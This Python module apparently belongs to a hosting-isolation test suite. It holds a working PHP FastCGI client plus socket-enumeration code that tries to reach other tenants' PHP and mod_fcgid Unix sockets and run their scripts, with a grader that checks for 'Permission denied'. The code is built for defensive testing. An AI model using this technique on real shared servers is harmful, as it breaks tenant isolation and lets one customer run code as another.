"""Speak FastCGI to somebody else's PHP, from PHP (I03)."""

from __future__ import annotations

from .ground import SOCKET_MODE, WITH_SOCKET, Answer, Ground, Outcome, attack, because, succeeded

ENGINES = (*WITH_SOCKET, "fcgid")

CLIENT = """
function record($type, $content) {
    return pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
}
function ask($socket, $script) {
    $connection = @stream_socket_client("unix://$socket", $number, $refusal, 2);
    if (!$connection) {
        return $refusal;
    }
    stream_set_timeout($connection, 3);
    $parameters = '';
    $given = ['REQUEST_METHOD' => 'GET', 'SCRIPT_FILENAME' => $script, 'SCRIPT_NAME' => '/whoami.php',
              'REDIRECT_STATUS' => '200', 'SERVER_PROTOCOL' => 'HTTP/1.1'];
    foreach ($given as $name => $value) {
        $parameters .= chr(strlen($name)) . chr(strlen($value)) . $name . $value;
    }
    $begin = record(1, pack('nCx5', 1, 0));
    fwrite($connection, $begin . record(4, $parameters) . record(4, '') . record(5, ''));
    return stream_get_contents($connection);
}
"""


def judged(ground: Ground, answer: Answer) -> Outcome:
    if ground.reached(answer):
        return succeeded(answer)
    return because("Permission denied" in answer.body, SOCKET_MODE, answer)


@attack("socket: the victim's, by its address", "I03, SEC-09", engines=ENGINES)
def by_address(ground: Ground) -> Outcome:
    """Also that of the status, and those of mod_fcgid."""
    paths = "', '".join(ground.addresses())
    script = f"{ground.victim.root}/whoami.php"
    code = f"foreach (['{paths}'] as $path) echo $path, ': ', ask($path, '{script}'), '; ';"
    answer = ground.php(CLIENT + code)
    return judged(ground, answer)


@attack("socket: any that can be found", "I03, SEC-11", engines=ENGINES)
def any_socket(ground: Ground) -> Outcome:
    """Every socket in every directory that the attacker can list, and of /proc/net/unix."""
    code = """
    $found = @file('/proc/net/unix') ?: [];
    $found = array_map(fn ($line) => preg_split('/\\s+/', trim($line))[7] ?? '', $found);
    foreach (['/run', '/tmp', '/var/tmp', '/var/run', '/var/lib/apache2', '/dev/shm', '/srv'] as $root) {
        try {
            $all = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root), 1, 16);
            foreach ($all as $path => $entry) if (@filetype($path) === 'socket') $found[] = $path;
        } catch (Exception) {
        }
    }
    $found = array_filter(array_unique($found), fn ($path) => preg_match('~^/(run|var/lib|tmp|srv)/~', $path)
        && !preg_match('~/(systemd|dbus)/~', $path));
    echo count($found), ' sockets; ';
    foreach ($found as $path) echo $path, ': ', ask($path, 'ROOT/whoami.php'), '; ';
    """
    ground.addresses()
    answer = ground.php(CLIENT + code.replace("ROOT", ground.victim.root))
    return judged(ground, answer)
